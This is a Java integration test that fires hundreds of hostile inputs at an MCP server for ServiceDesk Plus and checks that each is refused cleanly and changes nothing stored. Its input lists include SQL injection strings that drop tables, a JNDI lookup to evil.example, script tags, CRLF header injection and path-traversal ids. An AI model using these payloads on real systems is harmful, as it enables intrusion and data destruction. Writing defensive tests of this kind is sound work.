package dev.sdpmcp.it.hostile;

import static dev.sdpmcp.it.hostile.Campaign.Expect.REFUSED;
import static dev.sdpmcp.it.hostile.Campaign.Expect.SAFE;
import static dev.sdpmcp.it.support.RawMcp.INITIALIZE;
import static dev.sdpmcp.it.support.RawMcp.INITIALIZED;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.sdpmcp.it.hostile.Campaign.Answer;
import dev.sdpmcp.it.hostile.Campaign.Expect;
import dev.sdpmcp.it.support.Db;
import dev.sdpmcp.it.support.Http;
import dev.sdpmcp.it.support.RawMcp;
import dev.sdpmcp.it.support.RawSse;
import dev.sdpmcp.it.support.RunsOnPostgresql;
import dev.sdpmcp.it.support.TestUsers;
import dev.sdpmcp.it.support.ToolTestBase;
import io.modelcontextprotocol.spec.McpSchema;
import java.io.IOException;
import java.net.URI;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.security.MessageDigest;
import java.sql.Connection;
import java.sql.ResultSet;
import java.sql.SQLException;
import java.util.ArrayList;
import java.util.HexFormat;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.concurrent.atomic.AtomicLong;
import java.util.function.Function;
import java.util.stream.Collectors;
import org.junit.jupiter.api.Test;

/**
 * Hundreds of hostile inputs, generated from a few families crossed with the tool catalog's own input schemas and a
 * handful of value generators, sent over both transports with hand-made requests: each must get a clear error (or,
 * for harmless odd text, a normal answer), none may crash the server, reach ServiceDesk Plus with a write, or change
 * anything stored. The summary table goes to target/bad-input-report.md.
 */
@RunsOnPostgresql
class BadInputIT extends ToolTestBase {

    private static final ObjectMapper JSON = new ObjectMapper();
    private static final JsonNodeFactory NODES = JsonNodeFactory.instance;
    /** SDP_MAX_REQUEST_BYTES in the it-postgresql execution. */
    private static final int CAP = 65_536;
    private static final String UNKNOWN = "999999999999999999";
    /** HTTP/1.1 without an h2c upgrade: what MCP clients send, and oversized headers get the container's own answer. */
    private static final java.net.http.HttpClient HTTP11 = java.net.http.HttpClient.newBuilder()
            .version(java.net.http.HttpClient.Version.HTTP_1_1).connectTimeout(java.time.Duration.ofSeconds(5)).build();

    private final AtomicLong ids = new AtomicLong(700_000);
    private final Campaign campaign = new Campaign();
    private String streamableSession;
    private RawSse sse;
    private String sseEndpoint;

    @Test
    void hostileInputsGetClearErrorsAndChangeNothing() throws Exception {
        TestUsers intruder = authorizedUser();
        ok("list_requests", Map.of("page_size", 1)); // the access token is fetched and stored before the snapshot
        // usage rows are written in order, in the background: once this one is in, every earlier test's row is too
        Db.awaitRows("usage_log", 1, "client_hash = ? AND tool_name = 'list_requests'", user.clientHash());
        List<McpSchema.Tool> tools = client.listTools().tools();
        long usageBefore = maxUsageId();
        Map<String, List<String>> before = snapshot(usageBefore);
        Map<String, Integer> tokenRequestsBefore = Map.of(user.clientId(), zoho().stat(user, "token_requests"),
                intruder.clientId(), zoho().stat(intruder, "token_requests"));
        String portalsBefore = sdp().call("GET", "/portals", null).toString();
        long logBefore = lastLogSeq();
        try {
            openSessions();
            malformedJson();
            wrongJsonRpcShapes();
            unknownMethods();
            for (McpSchema.Tool tool : tools) {
                toolArguments(tool);
            }
            hugeBodies();
            deepNesting();
            oddUnicode();
            injection();
            pathTricks(tools);
            headers(intruder);
            credentials();
            foreignSessions(intruder);
            origins();
            methods();
            authorizationByOthers();
        } finally {
            if (sse != null) {
                sse.close();
            }
        }
        String report = campaign.report(Path.of("target", "bad-input-report.md"));
        System.out.println(report);

        // Nothing stored changed: the token tables, the token audit log and every earlier usage row are as they were.
        Map<String, List<String>> after = snapshot(usageBefore);
        assertEquals(before.keySet(), after.keySet());
        before.forEach((table, rows) -> assertEquals(rows, after.get(table), "rows of " + table + " changed during the campaign"));
        // Refused tool calls are usage like any other (outcome ERROR): recorded for the campaign's users only, none a crash.
        List<String> newUsage = settledRows(usageBefore);
        for (String row : newUsage) {
            assertTrue(row.contains("client_hash=" + user.clientHash()) || row.contains("client_hash=" + intruder.clientHash())
                    || row.contains("client_hash=" + UNAUTHORIZED.clientHash()), "usage of someone else: " + row);
            assertFalse(row.contains("outcome=failed"), "a tool failed unexpectedly: " + row);
        }
        assertEquals(tokenRequestsBefore, Map.of(user.clientId(), zoho().stat(user, "token_requests"),
                intruder.clientId(), zoho().stat(intruder, "token_requests")), "hostile input made the server ask Zoho for tokens");
        // ServiceDesk Plus received no write, and its records are as they were.
        List<JsonNode> reached = new ArrayList<>();
        sdp().call("GET", "/log?after=" + logBefore, null).path("entries").forEach(reached::add);
        List<String> writes = reached.stream().filter(e -> !e.path("method").asText().equals("GET"))
                .map(e -> e.path("method").asText() + " " + e.path("path").asText()).toList();
        assertEquals(List.of(), writes, "hostile input reached ServiceDesk Plus as a write");
        assertEquals(portalsBefore, sdp().call("GET", "/portals", null).toString());

        // The server is healthy: ready, and a normal call works on a new connection and on the raw session.
        HttpResponse<String> ready = Http.send("GET", uri("/health/ready"), Map.of(), null);
        assertEquals(200, ready.statusCode(), ready.body());
        assertTrue(ready.body().contains("UP"));
        ok("list_requests", Map.of("page_size", 1));
        assertTrue(streamable(RawMcp.TOOLS_LIST.replace("\"id\":2", "\"id\":" + ids.incrementAndGet())).body().contains("list_requests"));

        assertTrue(campaign.total() >= 200, "at least 200 hostile cases: " + campaign.total());
        assertEquals(List.of(), campaign.failures(), report);
    }

    // --- families

    private void malformedJson() {
        List<String> bodies = List.of("", " ", "{", "not json at all", "{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":",
                "{'jsonrpc':'2.0','id':1,'method':'tools/list'}", "[1,2", "nul", "{\"jsonrpc\":\"2.0\",,\"id\":1}",
                "{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":\"tools/list\"}}}}", "\u0000\u0000", "\"\\u12\"");
        for (String body : bodies) {
            both("malformed JSON", "body " + JSON.valueToTree(body), REFUSED, null, body);
        }
        // bytes that are not UTF-8 at all
        byte[] notUtf8 = {'{', '"', 'a', '"', ':', '"', (byte) 0xC3, (byte) 0x28, (byte) 0xFF, '"', '}'};
        campaign.run("malformed JSON", "invalid UTF-8 /mcp", REFUSED, null,
                () -> answer(send("POST", "/mcp", streamableHeaders(), notUtf8)));
        campaign.run("malformed JSON", "invalid UTF-8 /sse", REFUSED, null,
                () -> answer(send("POST", sseEndpoint(), sseHeaders(), notUtf8)));
    }

    private void wrongJsonRpcShapes() {
        List<String> shapes = List.of("null", "true", "42", "\"tools/list\"", "{}", "[]",
                "[{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":\"tools/list\"},{\"jsonrpc\":\"2.0\",\"id\":2,\"method\":\"tools/list\"}]",
                "{\"id\":%d,\"method\":\"tools/list\"}", "{\"jsonrpc\":\"1.0\",\"id\":%d,\"method\":\"tools/list\"}",
                "{\"jsonrpc\":2.0,\"id\":%d,\"method\":\"tools/list\"}", "{\"jsonrpc\":\"2.0\",\"id\":%d}",
                "{\"jsonrpc\":\"2.0\",\"id\":%d,\"method\":42}", "{\"jsonrpc\":\"2.0\",\"id\":%d,\"method\":null}",
                "{\"jsonrpc\":\"2.0\",\"id\":{\"a\":1},\"method\":\"tools/list\"}", "{\"jsonrpc\":\"2.0\",\"id\":[1],\"method\":\"tools/list\"}",
                "{\"jsonrpc\":\"2.0\",\"id\":1.5,\"method\":\"tools/list\"}", "{\"jsonrpc\":\"2.0\",\"id\":true,\"method\":\"tools/list\"}",
                "{\"jsonrpc\":\"2.0\",\"id\":%d,\"method\":\"tools/call\",\"params\":\"list_requests\"}",
                "{\"jsonrpc\":\"2.0\",\"id\":%d,\"method\":\"tools/call\",\"params\":[\"list_requests\"]}",
                "{\"jsonrpc\":\"2.0\",\"id\":%d,\"method\":\"tools/call\",\"params\":42}",
                "{\"jsonrpc\":\"2.0\",\"id\":%d,\"method\":\"tools/call\"}",
                "{\"jsonrpc\":\"2.0\",\"id\":%d,\"method\":\"tools/call\",\"params\":null}",
                "{\"jsonrpc\":\"2.0\",\"id\":%d,\"method\":\"tools/call\",\"params\":{}}",
                "{\"jsonrpc\":\"2.0\",\"id\":%d,\"method\":\"tools/call\",\"params\":{\"name\":42}}",
                "{\"jsonrpc\":\"2.0\",\"id\":%d,\"method\":\"tools/call\",\"params\":{\"name\":null}}",
                "{\"jsonrpc\":\"2.0\",\"id\":%d,\"method\":\"tools/call\",\"params\":{\"name\":\"list_requests\",\"arguments\":\"page=1\"}}",
                "{\"jsonrpc\":\"2.0\",\"id\":%d,\"method\":\"tools/call\",\"params\":{\"name\":\"list_requests\",\"arguments\":[1,2]}}",
                "{\"jsonrpc\":\"2.0\",\"id\":%d,\"method\":\"tools/call\",\"params\":{\"name\":\"list_requests\",\"arguments\":42}}",
                "{\"jsonrpc\":\"2.0\",\"id\":%d,\"method\":\"tools/list\",\"params\":\"all\"}");
        for (String shape : shapes) {
            both("wrong JSON-RPC shapes", shape, REFUSED, null, shape.contains("%d") ? shape.formatted(ids.incrementAndGet()) : shape);
        }
        // tools/call of tools that do not exist, with names meant to trick a lookup
        for (String name : List.of("no_such_tool", "../list_requests", "list_requests/../revoke_authorization", "LIST_REQUESTS",
                " list_requests", "list_requests\u0000", "", "x".repeat(5000))) {
            both("wrong JSON-RPC shapes", "tools/call " + Campaign.shorten(name), REFUSED, null, toolCall(name, NODES.objectNode()));
        }
        // a cursor of the wrong type and unknown params of a list are ignored, as MCP allows
        both("wrong JSON-RPC shapes", "tools/list with an object as cursor", SAFE, null,
                "{\"jsonrpc\":\"2.0\",\"id\":" + ids.incrementAndGet() + ",\"method\":\"tools/list\",\"params\":{\"cursor\":{\"x\":1}}}");
        // a response to nothing and a notification nobody knows: accepted and ignored, as JSON-RPC says
        both("wrong JSON-RPC shapes", "response to nothing", SAFE, null, "{\"jsonrpc\":\"2.0\",\"id\":" + ids.incrementAndGet() + ",\"result\":{}}");
        both("wrong JSON-RPC shapes", "unknown notification", SAFE, null, "{\"jsonrpc\":\"2.0\",\"method\":\"notifications/evil\",\"params\":{\"x\":1}}");
    }

    private void unknownMethods() {
        for (String method : List.of("server/discover", "tools/execute", "tools/call/../list", "TOOLS/LIST", "rpc.discover",
                "resources/read", "prompts/get", "sampling/createMessage", "", " ", "tools/list\u0000", "\u202etsil/sloot",
                "m".repeat(10_000))) {
            ObjectNode message = NODES.objectNode().put("jsonrpc", "2.0").put("id", ids.incrementAndGet()).put("method", method);
            both("unknown methods", Campaign.shorten(method), REFUSED, null, message.toString());
        }
    }

    /** Per tool, from its input schema: each property with a wrong type, each required one missing, an extra one. */
    @SuppressWarnings("unchecked")
    private void toolArguments(McpSchema.Tool tool) {
        Map<String, Object> properties = (Map<String, Object>) tool.inputSchema().get("properties");
        List<String> required = tool.inputSchema().get("required") == null ? List.of() : (List<String>) tool.inputSchema().get("required");
        int turn = 0;
        for (var property : new TreeMap<>(properties).entrySet()) {
            Map<String, Object> schema = (Map<String, Object>) property.getValue();
            List<JsonNode> wrong = wrongValues(schema);
            for (int i = 0; i < Math.min(2, wrong.size()); i++) {
                JsonNode value = wrong.get((turn + i) % wrong.size());
                ObjectNode arguments = validArguments(tool);
                arguments.set(property.getKey(), value);
                both("wrong types", tool.name() + "." + property.getKey() + "=" + Campaign.shorten(value.toString()), REFUSED,
                        property.getKey(), toolCall(tool.name(), arguments));
            }
            turn++;
        }
        for (String name : required) {
            ObjectNode arguments = validArguments(tool);
            arguments.remove(name);
            both("missing required", tool.name() + " without " + name, REFUSED, name, toolCall(tool.name(), arguments));
        }
        for (String extra : List.of("unexpected_argument", "__proto__")) {
            ObjectNode arguments = validArguments(tool);
            arguments.put(extra, "1");
            both("extra properties", tool.name() + " + " + extra, REFUSED, extra, toolCall(tool.name(), arguments));
        }
    }

    private void hugeBodies() {
        // just over and just under the body cap, in a search text, an id, a method and an array
        String over = "x".repeat(CAP + 100);
        String under = "x".repeat(CAP - 600);
        for (String size : List.of("over", "under")) {
            String text = size.equals("over") ? over : under;
            Expect overCap = size.equals("over") ? REFUSED : SAFE;
            both("huge strings", "search query " + size + " the cap", overCap, null,
                    toolCall("search_requests", NODES.objectNode().put("query", text).put("page_size", 1)));
            both("huge strings", "request_id " + size + " the cap", REFUSED, size.equals("over") ? null : "request_id",
                    toolCall("get_request", NODES.objectNode().put("request_id", text)));
            both("huge strings", "sort_order " + size + " the cap", REFUSED, size.equals("over") ? null : "sort_order",
                    toolCall("list_requests", NODES.objectNode().put("sort_order", text)));
            both("huge strings", "subject of create_request with a bad type beside it " + size + " the cap", REFUSED,
                    size.equals("over") ? null : "impact", toolCall("create_request", NODES.objectNode().put("subject", text).put("impact", 7)));
            both("huge strings", "grant code " + size + " the cap", REFUSED, size.equals("over") ? null : "code",
                    toolCall("authorize", NODES.objectNode().put("code", 42).put("data_center", text)));
        }
        // huge arrays: criteria and a list of strings, under and over the cap
        for (int count : List.of(900, 5000)) {
            ArrayNode criteria = NODES.arrayNode();
            for (int i = 0; i < count; i++) {
                criteria.addObject().put("field", "subject").put("condition", "is").put("value", "v" + i);
            }
            both("huge arrays", count + " criteria", count > 1000 ? REFUSED : SAFE, null,
                    toolCall("search_requests", NODES.objectNode().set("criteria", criteria)));
            ArrayNode numbers = NODES.arrayNode();
            for (int i = 0; i < count * 5; i++) {
                numbers.add(i);
            }
            both("huge arrays", (count * 5) + " numbers as a request id", REFUSED, count > 1000 ? null : "request_id",
                    toolCall("get_request", NODES.objectNode().set("request_id", numbers)));
        }
    }

    private void deepNesting() {
        for (int depth : List.of(50, 900, 5000)) {
            String nested = "[".repeat(depth) + "]".repeat(depth);
            String args = "{\"request_id\":" + nested + "}";
            both("deep nesting", "request_id nested " + depth, REFUSED, depth < 1000 ? "request_id" : null,
                    rawCall("get_request", args));
            String objects = "{\"a\":".repeat(depth) + "1" + "}".repeat(depth);
            both("deep nesting", "criteria value nested " + depth, depth < 1000 ? SAFE : REFUSED, null,
                    rawCall("search_requests", "{\"criteria\":[{\"field\":\"subject\",\"condition\":\"is\",\"value\":" + objects + "}]}"));
            both("deep nesting", "params nested " + depth, depth < 1000 ? SAFE : REFUSED, null,
                    "{\"jsonrpc\":\"2.0\",\"id\":" + ids.incrementAndGet() + ",\"method\":\"tools/list\",\"params\":" + objects + "}");
        }
    }

    private static final List<String> ODD_TEXT = List.of("nul\u0000byte", "\ud800 lone high", "lone low \udfff", "\u202eRTL override",
            "emoji 😀🧨👩‍💻", "e\u0301\u0301\u0301\u0301 combining", "\ufeffBOM", "zero\u200bwidth", "\u0007\u001b[31mterminal",
            "\uffff\ufffe noncharacters");

    private void oddUnicode() {
        for (String text : ODD_TEXT) {
            String label = JSON.valueToTree(text).toString();
            both("odd Unicode", "search query " + label, SAFE, null,
                    toolCall("search_requests", NODES.objectNode().put("query", text).put("page_size", 1)));
            both("odd Unicode", "request_id " + label, REFUSED, "request_id", toolCall("get_request", NODES.objectNode().put("request_id", "1" + text)));
            both("odd Unicode", "sort_order " + label, REFUSED, "sort_order", toolCall("list_requests", NODES.objectNode().put("sort_order", "asc" + text)));
            both("odd Unicode", "tool name " + label, REFUSED, null, toolCall("list_requests" + text, NODES.objectNode()));
            both("odd Unicode", "argument name " + label, REFUSED, null, toolCall("list_requests", NODES.objectNode().put("page" + text, 1)));
        }
    }

    private static final List<String> INJECTIONS = List.of("' OR '1'='1", "x'; DROP TABLE usage_log; --", "\" OR 1=1 --",
            "x\",\"condition\":\"is not\",\"value\":\"", "x\"}],\"logical_operator\":\"OR\",\"children\":[{\"field\":\"id",
            "{\"field\":\"id\",\"condition\":\"greater than\",\"value\":\"0\"}", "x\r\nX-Injected: 1\r\n\r\n", "<script>alert(1)</script>",
            "${jndi:ldap://evil.example/a}", "#{7*7}", "%00%2e%2e%2f", "*", "\\", "");

    private void injection() {
        for (String value : INJECTIONS) {
            String label = Campaign.shorten(JSON.valueToTree(value).toString());
            both("injection in search values", "query " + label, SAFE, null,
                    toolCall("search_requests", NODES.objectNode().put("query", value).put("page_size", 1)));
            both("injection in search values", "status filter " + label, SAFE, null,
                    toolCall("list_requests", NODES.objectNode().put("status", value).put("page_size", 1)));
            both("injection in search values", "solutions query " + label, SAFE, null,
                    toolCall("search_solutions", NODES.objectNode().put("query", value).put("page_size", 1)));
            ObjectNode search = NODES.objectNode().put("page_size", 1);
            search.putArray("criteria").addObject().put("field", "subject").put("condition", "contains").put("value", value);
            both("injection in search values", "criteria value " + label, SAFE, null, toolCall("search_requests", search));
            if (value.isEmpty()) {
                continue; // "subject" + "" is a plain, valid field
            }
            ObjectNode field = NODES.objectNode().put("page_size", 1);
            field.putArray("criteria").addObject().put("field", "subject" + value).put("condition", "is").put("value", "x");
            both("injection in search values", "criteria field " + label, REFUSED, "field", toolCall("search_requests", field));
            ObjectNode condition = NODES.objectNode().put("page_size", 1);
            condition.putArray("criteria").addObject().put("field", "subject").put("condition", "is" + value).put("value", "x");
            both("injection in search values", "criteria condition " + label, REFUSED, "condition", toolCall("search_requests", condition));
        }
    }

    private static final List<Object> ID_TRICKS = List.of("../1", "..%2F1", "%2e%2e%2f1", "1/../2", "1%2F..%2F2", "1/notes", "-1",
            "123456789012345678901234567890", "abc", "http://evil.example/1", "//evil.example", "1?fields=all", "1#x", "1;2",
            "1 OR 1=1", " 1 2", "0x1F", "1e5", "１２３", -1L, 1.5, 1e30, "");

    private void pathTricks(List<McpSchema.Tool> tools) {
        int turn = 0;
        for (McpSchema.Tool tool : tools) {
            for (String id : idProperties(tool)) {
                // every id argument of every tool meets two tricks, in turn through the list
                for (int i = 0; i < 2; i++) {
                    Object trick = ID_TRICKS.get(turn++ % ID_TRICKS.size());
                    ObjectNode arguments = validArguments(tool);
                    arguments.set(id, JSON.valueToTree(trick));
                    both("path tricks in ids", tool.name() + "." + id + "=" + trick, REFUSED, id, toolCall(tool.name(), arguments));
                }
            }
        }
        // the session id in the legacy message URL, and request paths around the endpoints
        String own = sseEndpoint().replaceFirst(".*sessionId=", "");
        for (String session : List.of("../" + own, own + "/..", "%2e%2e%2f" + own, own + "%00", own + "&sessionId=x", "*", "")) {
            campaign.run("path tricks in ids", "sessionId=" + session, REFUSED, null,
                    () -> answer(send("POST", "/messages?sessionId=" + session, sseHeaders(), toolsList())));
        }
        for (String session : List.of("../" + streamableSession, streamableSession + "/..", "%2e%2e", streamableSession.toUpperCase() + "x")) {
            campaign.run("path tricks in ids", "Mcp-Session-Id " + session, REFUSED, null,
                    () -> answer(send("POST", "/mcp", concat(streamableHeaders().stream().filter(x -> !x.name().equals("Mcp-Session-Id")).toList(), List.of(h("Mcp-Session-Id", session))), toolsList())));
        }
        for (String path : List.of("/mcp/../sse", "/%2e%2e/mcp", "/mcp%2F..%2Fsse", "/mcp;jsessionid=1", "/messages/../mcp", "/mcp/")) {
            campaign.run("path tricks in ids", "POST " + path, SAFE, null,
                    () -> answerOutsideMcp(send("POST", path, streamableHeaders(), toolsList())));
        }
    }

    private void headers(TestUsers intruder) {
        String body = INITIALIZE.formatted("2025-11-25");
        List<Header> json = List.of(h("Content-Type", "application/json"), h("Accept", "application/json, text/event-stream"));
        // the same header twice, with different values
        Map<String, List<Header>> duplicated = new LinkedHashMap<>();
        duplicated.put("X-SDP-Client-Id twice", List.of(h("X-SDP-Client-Id", user.clientId()), h("X-SDP-Client-Id", intruder.clientId()),
                h("X-SDP-Client-Secret", user.clientSecret())));
        duplicated.put("X-SDP-Client-Secret twice", List.of(h("X-SDP-Client-Id", user.clientId()), h("X-SDP-Client-Secret", user.clientSecret()),
                h("X-SDP-Client-Secret", intruder.clientSecret())));
        duplicated.put("Authorization twice", List.of(h("Authorization", user.basicAuthorization()), h("Authorization", intruder.basicAuthorization())));
        duplicated.put("Origin twice", concat(List.of(h("Origin", "http://allowed.example"), h("Origin", "http://evil.example")), creds(user)));
        duplicated.put("Mcp-Session-Id twice", concat(List.of(h("Mcp-Session-Id", streamableSession), h("Mcp-Session-Id", "other-session"),
                h("MCP-Protocol-Version", "2025-11-25")), creds(user)));
        duplicated.put("MCP-Protocol-Version twice", concat(List.of(h("Mcp-Session-Id", streamableSession), h("MCP-Protocol-Version", "2025-11-25"),
                h("MCP-Protocol-Version", "1999-01-01")), creds(user)));
        duplicated.forEach((name, headers) -> {
            campaign.run("duplicated headers", name + " on /mcp", REFUSED, null,
                    () -> answer(send("POST", "/mcp", concat(json, headers), name.startsWith("Mcp") || name.startsWith("MCP") ? toolsList() : body)));
            if (name.startsWith("M")) {
                return; // Streamable HTTP headers
            }
            campaign.run("duplicated headers", name + " on /sse", REFUSED, null,
                    () -> get("/sse", concat(List.of(h("Accept", "text/event-stream")), headers)));
        });
        // huge header values: credentials, session, protocol version, origin, an unrelated header, many headers
        for (int size : List.of(8_000, 30_000, 40_000)) {
            String big = "A".repeat(size);
            Map<String, List<Header>> huge = new LinkedHashMap<>();
            huge.put("X-SDP-Client-Id", List.of(h("X-SDP-Client-Id", "1000." + big), h("X-SDP-Client-Secret", user.clientSecret())));
            huge.put("X-SDP-Client-Secret", List.of(h("X-SDP-Client-Id", user.clientId()), h("X-SDP-Client-Secret", big)));
            huge.put("Authorization", List.of(h("Authorization", "Basic " + big)));
            huge.put("Mcp-Session-Id", concat(List.of(h("Mcp-Session-Id", big)), creds(user)));
            huge.put("MCP-Protocol-Version", concat(List.of(h("Mcp-Session-Id", streamableSession), h("MCP-Protocol-Version", big)), creds(user)));
            huge.put("Origin", concat(List.of(h("Origin", "http://" + big.toLowerCase())), creds(user)));
            // beyond the container's limit (32 KiB a header) Liberty refuses with a bare 400 before the application runs
            Function<HttpResponse<String>, Answer> judged = size > 32_768 ? BadInputIT::answerOutsideMcp : BadInputIT::answer;
            huge.forEach((name, headers) -> campaign.run("oversized headers", name + " of " + size + " bytes", REFUSED, null,
                    () -> judged.apply(send("POST", "/mcp", concat(json, headers), name.startsWith("M") ? toolsList() : body))));
            campaign.run("oversized headers", "unrelated header of " + size + " bytes", size > 32_768 ? REFUSED : SAFE, null,
                    () -> judged.apply(send("POST", "/mcp", concat(concat(json, creds(user)), List.of(h("X-Padding", big))), body)));
        }
        List<Header> many = new ArrayList<>(concat(json, creds(user)));
        for (int i = 0; i < 300; i++) {
            many.add(h("X-Many-" + i, "v" + i));
        }
        campaign.run("oversized headers", "300 extra headers", SAFE, null, () -> answer(send("POST", "/mcp", many, body)));
    }

    private static final TestUsers UNAUTHORIZED = TestUsers.fresh();

    private void credentials() {
        String body = INITIALIZE.formatted("2025-11-25");
        List<Header> json = List.of(h("Content-Type", "application/json"), h("Accept", "application/json, text/event-stream"));
        Map<String, List<Header>> wrong = new LinkedHashMap<>();
        wrong.put("none", List.of());
        wrong.put("id without secret", List.of(h("X-SDP-Client-Id", user.clientId())));
        wrong.put("secret without id", List.of(h("X-SDP-Client-Secret", user.clientSecret())));
        wrong.put("malformed id", List.of(h("X-SDP-Client-Id", "1000.'; DROP TABLE oauth_tokens; --"), h("X-SDP-Client-Secret", user.clientSecret())));
        wrong.put("path in id", List.of(h("X-SDP-Client-Id", "../../1000.ABC"), h("X-SDP-Client-Secret", user.clientSecret())));
        wrong.put("unexpanded variables", List.of(h("X-SDP-Client-Id", "${SDP_CLIENT_ID}"), h("X-SDP-Client-Secret", "${SDP_CLIENT_SECRET}")));
        wrong.put("empty values", List.of(h("X-SDP-Client-Id", ""), h("X-SDP-Client-Secret", "")));
        wrong.put("secret with spaces", List.of(h("X-SDP-Client-Id", user.clientId()), h("X-SDP-Client-Secret", "has spaces in it")));
        wrong.put("wrong secret for a known id", List.of(h("X-SDP-Client-Id", user.clientId()), h("X-SDP-Client-Secret", "f".repeat(42))));
        wrong.put("Basic not base64", List.of(h("Authorization", "Basic %%%")));
        wrong.put("Basic without colon", List.of(h("Authorization", "Basic " + java.util.Base64.getEncoder().encodeToString(user.clientId().getBytes()))));
        wrong.put("Basic with wrong secret", List.of(h("Authorization", user.withSecret("e".repeat(42)).basicAuthorization())));
        wrong.put("Bearer token", List.of(h("Authorization", "Bearer eyJhbGciOiJub25lIn0.e30.")));
        wrong.put("Digest", List.of(h("Authorization", "Digest username=\"x\"")));
        wrong.forEach((name, headers) -> {
            campaign.run("wrong credentials", name + " on /mcp", REFUSED, null, () -> answer(send("POST", "/mcp", concat(json, headers), body)));
            campaign.run("wrong credentials", name + " on /sse", REFUSED, null,
                    () -> get("/sse", concat(List.of(h("Accept", "text/event-stream")), headers)));
            campaign.run("wrong credentials", name + " on /messages", REFUSED, null,
                    () -> answer(send("POST", sseEndpoint(), concat(List.of(h("Content-Type", "application/json")), headers), toolsList())));
        });
        // well-formed credentials nobody authorized: the session opens, and the tools say how to authorize
        String session = RawMcp.initializeStreamable(uri(""), UNAUTHORIZED);
        for (String tool : List.of("list_requests", "get_request", "create_request", "revoke_authorization")) {
            ObjectNode arguments = tool.equals("get_request") ? NODES.objectNode().put("request_id", UNKNOWN)
                    : tool.equals("create_request") ? NODES.objectNode().put("subject", "probe") : NODES.objectNode();
            campaign.run("wrong credentials", "unauthorized user calls " + tool, tool.equals("revoke_authorization") ? SAFE : REFUSED, null,
                    () -> answer(send("POST", "/mcp", headerList(RawMcp.streamableHeaders(UNAUTHORIZED, session)), bytes(toolCall(tool, arguments)))));
        }
    }

    private void foreignSessions(TestUsers intruder) {
        String own = sseEndpoint();
        List<Header> theirs = concat(List.of(h("Content-Type", "application/json"), h("Accept", "application/json, text/event-stream"),
                h("Mcp-Session-Id", streamableSession), h("MCP-Protocol-Version", "2025-11-25")), creds(intruder));
        for (String body : List.of(toolsList(), toolCall("list_requests", NODES.objectNode().put("page_size", 1)),
                toolCall("revoke_authorization", NODES.objectNode()), INITIALIZED)) {
            String label = Campaign.shorten(body);
            campaign.run("another user's session", "/mcp " + label, REFUSED, null, () -> answer(send("POST", "/mcp", theirs, body.getBytes(StandardCharsets.UTF_8))));
            campaign.run("another user's session", "/messages " + label, REFUSED, null,
                    () -> answer(send("POST", own, concat(List.of(h("Content-Type", "application/json")), creds(intruder)), body.getBytes(StandardCharsets.UTF_8))));
        }
        // the session id under a name the container decodes to "sessionId", alone or beside the intruder's own
        String ownId = own.replaceFirst(".*sessionId=", "");
        for (String name : List.of("session%49d", "%73essionId", "sessionI%64", "SESSIONID", "sessionId%00")) {
            for (String query : List.of(name + "=" + ownId, "sessionId=" + ownId + "&" + name + "=" + ownId,
                    name + "=" + ownId + "&sessionId=" + ownId)) {
                campaign.run("another user's session", "/messages?" + query, REFUSED, null,
                        () -> answer(send("POST", "/messages?" + query, concat(List.of(h("Content-Type", "application/json")),
                                creds(intruder)), bytes(toolsList()))));
            }
        }
        campaign.run("another user's session", "GET /mcp stream", REFUSED, null, () -> get("/mcp",
                concat(List.of(h("Accept", "text/event-stream"), h("Mcp-Session-Id", streamableSession)), creds(intruder))));
        campaign.run("another user's session", "DELETE /mcp", REFUSED, null, () -> answer(send("DELETE", "/mcp",
                concat(List.of(h("Mcp-Session-Id", streamableSession)), creds(intruder)), (byte[]) null)));
        campaign.run("another user's session", "basic auth of the intruder on /mcp", REFUSED, null, () -> answer(send("POST", "/mcp",
                List.of(h("Content-Type", "application/json"), h("Accept", "application/json, text/event-stream"), h("Mcp-Session-Id", streamableSession),
                        h("Authorization", intruder.basicAuthorization())), bytes(toolsList()))));
        // the owner's sessions still work
        campaign.run("another user's session", "owner still served on /mcp", SAFE, null, () -> {
            Answer answer = streamable(toolsList());
            return answer.body().contains("list_requests") ? answer : new Answer(599, "owner lost the session: " + answer.body(), null);
        });
    }

    /** Only GET /sse, POST /messages and GET|POST|DELETE /mcp are served. */
    private void methods() {
        for (String request : List.of("POST /sse", "PUT /sse", "DELETE /sse", "PATCH /sse", "GET /messages", "PUT /messages",
                "DELETE /messages", "OPTIONS /messages", "PUT /mcp", "PATCH /mcp", "OPTIONS /mcp")) {
            String[] parts = request.split(" ");
            campaign.run("methods not served", request, REFUSED, null,
                    () -> answer(send(parts[0], parts[1].equals("/messages") ? sseEndpoint() : parts[1], streamableHeaders(),
                            bytes(toolsList()))));
        }
    }

    /**
     * Someone who knows a client id but not its secret tries to authorize it: each attempt is refused, and only counts
     * against attempts with that same id and secret (rows the snapshot leaves out), never the owner's budget.
     */
    private void authorizationByOthers() {
        String session = RawMcp.initializeStreamable(uri(""), UNAUTHORIZED);
        for (int i = 0; i < 6; i++) {
            String secret = TestUsers.fresh().clientSecret();
            String code = i % 2 == 0 ? "1000.0123456789abcdef.0123456789abcdef" : "1000." + "f".repeat(32) + "." + i;
            String setup = "{\"clientId\":\"" + UNAUTHORIZED.clientId() + "\",\"clientSecret\":\"" + secret
                    + "\",\"authCode\":\"" + code + "\"}";
            campaign.run("authorization by others", "setup with another secret #" + i, REFUSED, null,
                    () -> answer(send("POST", "/oauth/setup", List.of(h("Content-Type", "application/json")), bytes(setup))));
            campaign.run("authorization by others", "authorize tool with a junk code #" + i, REFUSED, null,
                    () -> answer(send("POST", "/mcp", headerList(RawMcp.streamableHeaders(UNAUTHORIZED, session)),
                            bytes(toolCall("authorize", NODES.objectNode().put("code", code))))));
        }
    }

    private void origins() {
        for (String origin : List.of("http://evil.example", "null", "http://allowed.example.evil.example", "http://allowed.example@evil.example",
                "http://allowed.example:8080", "https://allowed.example", "file://", "http://allowed.example/../", "*")) {
            String label = "Origin " + JSON.valueToTree(origin);
            campaign.run("Origin not allowed", label + " POST /mcp", REFUSED, null,
